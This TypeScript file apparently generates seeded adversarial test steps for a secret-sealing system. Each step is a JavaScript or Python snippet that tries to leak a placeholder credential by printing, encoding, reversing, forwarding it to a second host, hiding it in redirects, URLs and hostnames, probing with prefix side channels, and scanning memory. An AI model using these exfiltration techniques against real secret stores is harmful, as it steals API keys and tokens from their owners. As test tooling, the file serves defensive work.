/**
 * Steps that try everything to get a sealed secret's value out of its placeholder: print, encode, split, forward and
 * compare it, send it to every place of a request, have it echoed in every way, and keep all that they got. Made from a
 * seed, so that a step that succeeds can be made again. Each asks at its end for `params.hold`, with all of it still in
 * its memory.
 */
import { spellingNames } from "./upstream.ts";

/** Xorshift of 32 bits: the same numbers for the same seed. */
function numbers(seed: number): (below: number) => number {
  let state = (seed * 2_654_435_761) >>> 0 || 1;
  return (below) => {
    state ^= state << 13;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state % below;
  };
}

type Choose = (below: number) => number;

const spelled = (choose: Choose): string => encodeURIComponent(spellingNames[choose(spellingNames.length)]!);
const coded = (choose: Choose): string => ["gzip", "deflate", "br", "zstd", "gzip%2C%20br"][choose(5)]!;

/** JavaScript in which `s` is the placeholder, `keep` takes what was got, and `get` sends and keeps the whole answer. */
const javascriptTricks: readonly ((choose: Choose) => string)[] = [
  ...[
    "https://CREDENTIAL.test:1/",
    "https://CREDENTIAL.approved.test:1/",
    "https://CREDENTIAL@other.test/",
    "x-CREDENTIAL://y",
    "https://approved.test:1/CREDENTIAL",
  ].map(
    (to) => () =>
      `await get(A + "/redirect?to=" + encodeURIComponent(${JSON.stringify(to)}), { headers: { authorization: s } });`,
  ),
  () => 'await get(A + "/", { headers: { authorization: "Bearer " + s } });',
  () => 'await get(A + "/", { headers: { "x-api-key": s, "user-agent": s, cookie: "a=" + s } });',
  () => 'await get(A + "/", { headers: { authorization: "Basic " + btoa("u:" + s) } });',
  (choose) => `await get(A + "/spelled?as=${spelled(choose)}", { headers: { authorization: s } });`,
  (choose) => `await get(A + "/coded?as=${coded(choose)}", { headers: { authorization: s } });`,
  () => 'await get(A + "/in-head", { headers: { "x-api-key": s } });',
  () => 'await get(A + "/byte-by-byte", { headers: { authorization: s } });',
  () => 'await get(A + "/?key=" + s); await get(A + "/p/" + s + "/q");',
  () => 'await get(A, { method: "POST", body: JSON.stringify({ [s]: s }) });',
  () => 'await get(A, { method: "POST", body: new URLSearchParams({ a: s }) });',
  () =>
    'const f = new FormData(); f.append("a", s); f.append("b", new Blob([s]), "b"); await get(A, { method: "POST", body: f });',
  (choose) => `await get(A, { headers: { authorization: s, range: "bytes=${choose(30)}-${30 + choose(9)}" } });`,
  () => 'await get(A + "/redirect?to=" + encodeURIComponent(B + "/?k=CREDENTIAL"), { headers: { authorization: s } });',
  () =>
    'await get(A + "/redirect?to=" + encodeURIComponent(B), { headers: { authorization: s, "x-a": s }, redirect: "manual" });',
  () => 'await get(A + "/redirect?status=307&to=" + encodeURIComponent(B), { method: "POST", body: s });',
  () =>
    'await get(A + "/redirect?to=" + encodeURIComponent(A + "/spelled?as=base64"), { headers: { authorization: s } });',
  () =>
    'await get(B, { headers: { authorization: s } }); await get(B + "/?" + s); await get(B, { method: "POST", body: s });',
  () => 'await get(B, { method: "POST", body: JSON.stringify(keep) });',
  () => 'await get("https://" + s + ".test/"); await get(A.replace("approved", s));',
  () =>
    'for (const c of s) console.log(c); console.log(btoa(s), encodeURIComponent(s), s.split("").reverse().join(""));',
  () => 'console.log(keep.join("").split("").reverse().join("")); console.error({ keep });',
  () =>
    'for (const text of keep) console.log(Array.from(String(text).slice(0, 400), (c) => c.charCodeAt(0).toString(16)).join(" "));',
  () =>
    'let n = 0; for (const c of "0aZk") n += (await fetch(A + "/starts-with?p=" + c, { headers: { authorization: s } })).status; keep.push(n);',
  () =>
    'try { keep.push(JSON.stringify(await secrets.sign(s, { algorithm: "hmac", data: s }))) } catch (e) { keep.push(e.stack) }',
  () => "const u = new URL(A); u.username = s; u.password = s; await get(u.href);",
  () => "keep.push(String(new Error(s).stack), JSON.stringify(Object.getOwnPropertyNames(globalThis)));",
  () => 'globalThis["k" + keep.length] = [...keep, structuredClone(keep)];',
  () =>
    'const c = new AbortController(); setTimeout(() => c.abort(), 3); await get(A + "/byte-by-byte", { headers: { authorization: s }, signal: c.signal });',
  () => 'await Promise.all([1, 2, 3].map((i) => get(A + "/?i=" + i, { headers: { authorization: s } })));',
];

const pythonTricks: readonly ((choose: Choose) => string)[] = [
  () => 'get(A + "/redirect?to=" + quote("https://CREDENTIAL.test/"), {"authorization": s})',
  () => 'get(A + "/", {"authorization": "Bearer " + s})',
  (choose) => `get(A + "/spelled?as=${spelled(choose)}", {"authorization": s})`,
  (choose) => `get(A + "/coded?as=${coded(choose)}", {"authorization": s})`,
  () => 'get(A + "/in-head", {"x-api-key": s})',
  () => 'get(A + "/byte-by-byte", {"authorization": s})',
  () => 'get(A + "/?key=" + s)',
  () => 'get(A, {}, ("{\\"a\\": \\"" + s + "\\"}").encode())',
  () => 'get(A + "/redirect?to=" + quote(B + "/?k=CREDENTIAL"), {"authorization": s})',
  () => 'get(B, {"authorization": s}); get(B, {}, "".join(keep).encode())',
  () => "print(s, s[::-1], s.encode().hex(), *keep)",
  () =>
    "import gc; keep.append(repr([o for o in gc.get_objects() if isinstance(o, dict) and s in map(str, o.values())][:3]))",
];

export interface HostileStep {
  readonly language: "javascript" | "python";
  readonly code: string;
}

/** One of them in twenty is Python, which takes ten times as long. */
export function makeHostileStep(seed: number): HostileStep {
  const choose = numbers(seed + 1);
  const python = seed % 20 === 7;
  const tricks = python ? pythonTricks : javascriptTricks;
  const chosen = Array.from({ length: 3 + choose(5) }, () => tricks[choose(tricks.length)]!(choose));
  if (python) {
    const code = `import urllib.request, urllib.error
from urllib.parse import quote
A, B, s, keep = params["approved"], params["other"], <<secrets.key>>, []
def get(url, headers={}, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers)) as r: keep.append(repr(r.headers.items()) + r.read().decode("latin-1"))
    except Exception as error: keep.append(repr(error))
${chosen.join("\n")}
urllib.request.urlopen(params["hold"]).read()
return keep`;
    return { language: "python", code };
  }
  const code = `const { approved: A, other: B } = params; const s = <<secrets.key>>; const keep = [];
const get = async (url, init) => { try { const r = await fetch(url, init); keep.push(r.url + r.statusText + JSON.stringify([...r.headers]) + await r.text()) } catch (e) { keep.push(String(e)) } };
${chosen.map((trick) => `{ ${trick} }`).join("\n")}
await (await fetch(params.hold)).text(); return keep`;
  return { language: "javascript", code };
}
